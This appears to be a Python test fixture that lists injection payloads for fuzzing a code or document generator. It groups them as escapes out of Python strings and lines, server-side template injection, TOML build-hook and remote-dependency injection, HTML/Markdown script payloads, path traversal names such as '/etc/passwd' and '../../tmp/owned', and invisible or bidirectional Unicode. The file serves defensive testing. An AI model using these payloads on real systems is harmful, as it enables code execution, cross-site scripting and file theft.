"""Texts that try to be more than text, by what they try: each in several ways, of which the places take turns."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Mapping

PAYLOADS: Mapping[str, tuple[str, ...]] = {
    # Out of a docstring or a text literal into Python.
    "text": (
        '"""\nimport os\nos.system("touch owned")\n"""',
        "ends with a backslash \\",
        'ends with quotes ""',
        '\\"""\nimport os\n',
        "'''\nimport os\n'''",
        '\\N{QUOTATION MARK}\\x22\\u0022\\"\\"\\"',
        "'); __import__('os').system('touch owned') #",
        '"); __import__("os").system("touch owned") #',
        "\\'); exec('1') #",
        '\\", __import__("os").getcwd(), "',
        '{__import__("os").system("touch owned")}',
        "x' + str(open('/etc/passwd').read()) + '",
    ),
    # Out of a line or a name into Python.
    "line": (
        "x\nimport os\nos.system('touch owned')",
        "x\r\nimport os\r\n",
        "x\rimport os\r",
        "x\u2028import os\u2029import sys\x85import re\x0cimport io",
        "x\\\nimport os",
        "# type: ignore\n# fmt: off\n# mypy: ignore-errors\n# pyright: basic\nimport os",
        "-*- coding: utf-7 -*-\n# coding: utf-7\n+AGkAbQBwAG8AcgB0ACAAbwBz-",
        "x: int = 1; import os",
        "__import__('os').system('touch owned')",
        "class",
        "__class__",
        "a=1):\n  pass\nimport os\ndef b(",
        "lambda: exec('1')",
        "x, *, y=exec('1')",
        "os",
    ),
    # Into a template that is rendered again.
    "template": (
        "{{ cycler.__init__.__globals__.os.popen('touch owned').read() }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "{# {{ 7 * 7 }} #}{% raw %}",
        "${7*7} #{7*7} <%= 7*7 %> %(x)s {0.__class__} $(touch owned) `touch owned`",
    ),
    # Out of a value of TOML.
    "toml": (
        'x"\n[tool.hatch.build.hooks.custom]\npath = "owned.py"\n',
        '"""\n[project.scripts]\nowned = "os:system"\n"""',
        "'\n[build-system]\nrequires = ['owned']\n",
        'x"\ndependencies = ["owned @ http://192.0.2.1/owned.whl"]\n#',
        "\\U0001F600 \U0001f600 \\u0022",
    ),
    # Out of a paragraph, a table or a heading of Markdown, and into HTML.
    "markdown": (
        "[x](javascript:alert(1)) ![x](http://192.0.2.1/x.png)",
        "x | y |\n|---|---|\n| `a` | b |\n\n# Heading\n\n- list\n\n> quote",
        "```\n\n```python\nimport os\n```\n\n    code",
        "<script>alert(1)</script><img src=x onerror=alert(1)><!-- -->",
        "http://192.0.2.1/ www.example.com <http://example.com> a@example.com",
        "&lt;script&gt; &#x3c;b&#x3e; **bold** _it_ ~~no~~ `code`",
        '"><svg onload=alert(1)>',
        "[x]: http://192.0.2.1/ 'x'\n\n[x]\n===\n\n1. one",
        "| `a` | <b>",
    ),
    # Out of the folder.
    "path": (
        "../../../../../../tmp/owned",
        "/etc/passwd",
        "..\\..\\owned",
        "C:\\owned",
        "\\\\192.0.2.1\\share\\owned",
        "con",
        "aux.py",
        "a/../../owned",
        "~/owned",
        "%2e%2e%2fowned",
        ".",
        "..",
        "__init__",
        "[package]",
        "owned.py\x00.txt",
        "-rf",
        "long" * 100,
    ),
    # What a reader of the code does not see.
    "unseen": (
        "\u202e\u2066 reversed \u2069\u202c",
        "a\x00b\x1b[31m\x07\x7f",
        "zero\u200b\u2060\ufeffwidth \U000e0041\U000e0042 \U000e0100",
        "\ud800 lone \udfff",
        "\uff1b\uff02\u037e \u0130 \u017f \ufb01 \u2024\u2024\uff0f",
        "\u0430dmin",
        "\ufffe\uffff",
        " ",
        "",
        "\t\n",
    ),
}

# What may stand in a text without harm: the parts of what is made of these are the parts that are allowed.
HARMLESS = ("harmless", "Two lines\n\nof text.", "")
OF_PLACE: Mapping[str, tuple[str, ...]] = {
    "response.media": ("text/plain", "application/json", "application/octet-stream"),
    "request.media": ("text/plain", "application/json", "application/octet-stream"),
    "security.http": ("bearer", "basic"),
    "status": ("200",),
    "parameter.style": ("form",),
    "override.class": ("Harmless",),
    "property.pattern": ("((",),
    "filterable.path": ("name",),
    "filterable.type": ("string",),
    "filterable.property": (" reversed",),
    "preset.of": ("Subject",),
    "preset.schema": ("Sizes",),
    "parameter.holds": ("+",),
    "security.token url": ("https://example.com/{harmless}/token",),
}
"""More such texts for places that take none of the others."""
